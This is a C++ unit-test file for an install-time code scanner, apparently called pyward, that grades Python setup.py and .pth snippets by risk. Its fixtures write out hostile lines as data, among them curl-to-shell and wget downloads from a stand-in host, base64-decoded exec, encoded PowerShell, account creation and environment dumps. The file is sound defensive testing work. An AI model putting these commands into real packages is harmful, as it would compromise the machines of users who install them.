#include "analysis/install_exec_rule.h"

#include <gtest/gtest.h>

#include "util/file_util.h"

namespace pyward {
namespace {

const InstallExecRule& Rule() {
  static InstallExecRule* rule = [] {
    auto* r = new InstallExecRule;
    std::string data, err;
    EXPECT_TRUE(ReadFile(PYWARD_SOURCE_DIR "/data/rules/install-exec.txt", 1 << 20, &data, &err)) << err;
    EXPECT_TRUE(r->Load(data, &err)) << err;
    return r;
  }();
  return *rule;
}

std::vector<Finding> Check(const std::string& src) {
  std::vector<Finding> out;
  Rule().CheckSource("pkg/setup.py", src, &out);
  return out;
}

// One-line rule tests: the source, then the severity expected of its single
// finding at `line`.
void ExpectFinding(const std::string& src, Severity sev, int line = 0) {
  std::vector<Finding> f = Check(src);
  ASSERT_EQ(f.size(), 1u) << src;
  EXPECT_EQ(f[0].rule, "install-exec");
  EXPECT_EQ(f[0].severity, sev) << src << "\n" << f[0].message;
  EXPECT_EQ(f[0].phase, Phase::kInstall);
  if (line) {
    EXPECT_EQ(f[0].line, line) << src;
  }
}

void ExpectNoFinding(const std::string& src) {
  std::vector<Finding> f = Check(src);
  EXPECT_TRUE(f.empty()) << src << "\n" << (f.empty() ? "" : f[0].message);
}

TEST(InstallExecRule, ModuleLevelCalls) {
  ExpectFinding("import os\nos.system('make')\n", Severity::kHigh, 2);
  ExpectFinding("import subprocess as sp\nsp.Popen(['ls'])\n", Severity::kHigh);
  ExpectFinding("from subprocess import check_output as co\nco(['id'])\n", Severity::kHigh);
  ExpectFinding("eval(x)\n", Severity::kMedium);  // decoded payloads escalate elsewhere
  ExpectFinding("import subprocess\nsubprocess.check_output(['pkg-config', '--libs', 'x'])\n",
                Severity::kLow);  // a build probe
  ExpectFinding("__import__(name)\n", Severity::kMedium);
  ExpectFinding("try:\n    import os\n    os.system('x')\nexcept Exception:\n    pass\n",
                Severity::kHigh, 3);
}

TEST(InstallExecRule, EscalatesDownloadsShellsAndPayloads) {
  ExpectFinding("import os\nos.system('curl http://x.invalid/a | sh')\n", Severity::kCritical);
  ExpectFinding("exec(base64.b64decode('aW1wb3J0IG9z'))\n", Severity::kCritical);
  ExpectFinding("import subprocess\nsubprocess.Popen(\n  ['powershell', '-enc', 'AAAA'])\n",
                Severity::kCritical, 2);
}

// A second interpreter started in the background to import another package
// runs that package's code apart from pip: critical. Asking an interpreter
// about itself or reading a build path from it is not.
TEST(InstallExecRule, BackgroundInterpreterImportingAPackage) {
  ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'from other import x'], "
                "close_fds=True)\n",
                Severity::kCritical);
  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                "\"import warnings; warnings.filterwarnings('ignore'); import other\"])\n",
                Severity::kCritical);
  // Standard library only, output read, or not Popen: as before (high).
  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                "'import sys; print(sys.prefix)'])\n",
                Severity::kHigh);
  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                "'import numpy; print(numpy.get_include())'], stdout=subprocess.PIPE)\n",
                Severity::kHigh);
  ExpectFinding("import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import numpy'])\n",
                Severity::kHigh);
}

TEST(InstallExecRule, EscalatesHostReconAndAccountChanges) {
  ExpectFinding("import subprocess\nsubprocess.run(['whoami'], capture_output=True)\n",
                Severity::kCritical);
  ExpectFinding("import os\nstream = os.popen('env')\n", Severity::kCritical);
  ExpectFinding("import subprocess\nsubprocess.check_output('net user /add u p', shell=True)\n",
                Severity::kCritical);
  // A build argument that mentions env is not an environment dump.
  ExpectFinding("import subprocess\nsubprocess.run(['bwrap', '--setenv', 'A', 'b'])\n", Severity::kHigh);
}

TEST(InstallExecRule, RoutineSetupIdiomsAreLow) {
  ExpectFinding("exec(open('pkg/version.py').read())\n", Severity::kLow);
  ExpectFinding("import subprocess\nv = subprocess.check_output(['git', 'describe'])\n",
                Severity::kLow);
}

TEST(InstallExecRule, CommandOverridesRunAtInstall) {
  ExpectFinding(
      "from setuptools.command.install import install\n"
      "class PostInstall(install):\n"
      "    def run(self):\n"
      "        install.run(self)\n"
      "        import os\n"
      "        os.system('echo hi')\n",
      Severity::kHigh, 6);
}

TEST(InstallExecRule, GenericCommandsCountOnlyWhenRegisteredForInstall) {
  std::string upload =
      "import os\nfrom setuptools import Command, setup\n"
      "class Upload(Command):\n"
      "    def run(self):\n"
      "        os.system('twine upload dist/*')\n";
  ExpectNoFinding(upload + "setup(cmdclass={'upload': Upload})\n");
  ExpectFinding(upload + "setup(cmdclass={'install': Upload})\n", Severity::kHigh, 5);
  ExpectFinding(upload + "cmds = {}\ncmds['develop'] = Upload\n", Severity::kHigh, 5);
  ExpectFinding(upload + "setup(cmdclass=dict(egg_info=Upload))\n", Severity::kHigh, 5);
}

TEST(InstallExecRule, EscalationLooksOnlyInsideTheCall) {
  ExpectFinding("setup(version=__import__('pkg').v, url='https://example.org/')\n",
                Severity::kMedium);
  ExpectFinding("import subprocess, sys\nsubprocess.call([sys.executable, 'x.py'])\n",
                Severity::kHigh);
  ExpectFinding("exec(fh.read(), about)\n", Severity::kLow);
}

// A command built in a variable is graded by what the variable holds: the
// line its value is assigned on joins the call's own text.
TEST(InstallExecRule, EscalationFollowsNamesToTheirAssignedText) {
  ExpectFinding("import os, subprocess\nout = os.path.join(os.getcwd(), 't.exe')\n"
                "cmd = f\"powershell -Command \\\"Invoke-WebRequest -Uri u -OutFile '{out}'\\\"\"\n"
                "subprocess.run(cmd, shell=True)\n",
                Severity::kCritical, 4);
  // Ordinary variables keep the call's own grade; keyword names and
  // attributes are not looked up.
  ExpectFinding("import subprocess\nargs = ['make', 'all']\nsubprocess.run(args)\n",
                Severity::kHigh);
  std::vector<Finding> kw = Check("import subprocess\nshell = 'curl http://x.invalid | sh'\n"
                                  "subprocess.run(['make'], shell=True)\n");
  ASSERT_EQ(kw.size(), 1u);
  EXPECT_LT(kw[0].severity, Severity::kCritical) << kw[0].message;
  std::vector<Finding> attr = Check("import subprocess\nclass C: pass\nc = C()\n"
                                    "cmd = 'curl http://x.invalid | sh'\n"
                                    "subprocess.run(['make', c.cmd])\n");
  ASSERT_EQ(attr.size(), 1u);
  EXPECT_LT(attr[0].severity, Severity::kCritical) << attr[0].message;
}

TEST(InstallExecRule, BlocksGuardedByOtherCommandsDoNotRunAtInstall) {
  ExpectNoFinding("import os, sys\nif sys.argv[-1] == 'publish':\n    os.system('twine upload')\n");
  ExpectFinding("import os, sys\nif 'install' in sys.argv:\n    os.system('id')\n",
                Severity::kHigh, 3);
  ExpectFinding("import os, sys\nif sys.argv[-1] == 'publish':\n    pass\nos.system('id')\n",
                Severity::kHigh, 4);
  // Through a variable, and elif branches.
  ExpectNoFinding("import os, sys\ncommand = sys.argv[-1]\nif command == 'publish':\n"
                  "    os.system('twine upload')\nelif command == 'coverage':\n    os.system('x')\n");
  // Negated tests run for every other command, pip's included.
  ExpectFinding("import os, sys\nif sys.argv[-1] != 'publish':\n    os.system('id')\n",
                Severity::kHigh, 3);
  ExpectFinding("import os, sys\nc = sys.argv[1]\nif c not in ['test', 'upload']:\n"
                "    os.system('id')\n", Severity::kHigh, 4);
}

TEST(InstallExecRule, FunctionsCalledAtModuleLevel) {
  ExpectFinding("import os\ndef steal():\n    os.system('id')\nsteal()\n", Severity::kHigh, 3);
  ExpectNoFinding("import os\ndef helper():\n    os.system('id')\n");
  ExpectFinding("import os, threading\n"
                "threading.Thread(target=(lambda: os.system('~/.x'))).start()\n",
                Severity::kHigh, 2);
}

TEST(InstallExecRule, StringsCommentsAndDefinitionsDoNotCount) {
  ExpectNoFinding("# os.system('x')\n");
  ExpectNoFinding("doc = '''\nos.system('x')\n'''\n");
  ExpectNoFinding("s = \"eval(x)\"\n");
  ExpectNoFinding("class Helper:\n    def eval(self):\n        return 1\n");
  ExpectNoFinding("obj.eval(x)\n");
  ExpectNoFinding("from setuptools import setup\nsetup(name='x')\n");
}

TEST(InstallExecRule, SeesRealCallSitesThroughTheParser) {
  // PEP 701: the same quote nested inside an f-string replacement field.
  ExpectFinding("import os\nhost = {'h': 'x'}\nos.system(f\"curl {host[\"h\"]} | sh\")\n",
                Severity::kCritical, 3);
  // A call split over lines, with a comment holding a ')' in between.
  ExpectFinding("import subprocess\nsubprocess.run(  # )\n    ['wget', 'http://x.invalid/a'])\n",
                Severity::kCritical, 2);
  // An indented block (INDENT tokens share the call's position), CRLF lines.
  ExpectFinding("try:\r\n  import subprocess\r\n  if 1:\r\n    # c\r\n"
                "    subprocess.Popen('powershell -EncodedCommand AAAA')\r\n"
                "except Exception:\r\n  pass\r\n",
                Severity::kCritical, 5);
  ExpectFinding("if True:\n    exec(open('v.py').read())\n", Severity::kLow, 2);
  // Python 2 print statements around it do not stop the module being read.
  ExpectFinding("print 'installing'\nimport os\nos.system('id')\nprint 'done'\n",
                Severity::kHigh, 3);
}

TEST(InstallExecRule, PthImportLines) {
  std::vector<Finding> out;
  Rule().CheckPth("x.pth", "/some/path\nimport os; exec(base64.b64decode('x'))\n", &out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].rule, "pth-exec");
  EXPECT_EQ(out[0].line, 2);
  EXPECT_EQ(out[0].severity, Severity::kCritical);
  out.clear();
  Rule().CheckPth("x.pth", "import _virtualenv\n", &out);
  ASSERT_EQ(out.size(), 1u);
  EXPECT_EQ(out[0].severity, Severity::kMedium);
}

TEST(InstallExecRule, RejectsMalformedData) {
  InstallExecRule r;
  std::string err;
  EXPECT_FALSE(r.Load("[calls]\nos.system nonsense what\n", &err));
  EXPECT_NE(err.find("line 2"), std::string::npos) << err;
  EXPECT_FALSE(r.Load("stray\n", &err));
  EXPECT_FALSE(r.Load("", &err));
}

TEST(InstallExecRule, HostileInputStaysLinear) {
  std::string huge = "x = '" + std::string(600000, 'A') + "'; import os; os.system('id')\n";
  EXPECT_EQ(Check(huge).size(), 1u);
  std::string pushed = "import os\nx = 1;" + std::string(5000, ' ') + "os.system('id')\n";
  EXPECT_EQ(Check(pushed).size(), 1u) << "code pushed right by spaces";
  std::string brackets(100000, '(');
  EXPECT_TRUE(Check(brackets).empty());
}

}  // namespace
}  // namespace pyward
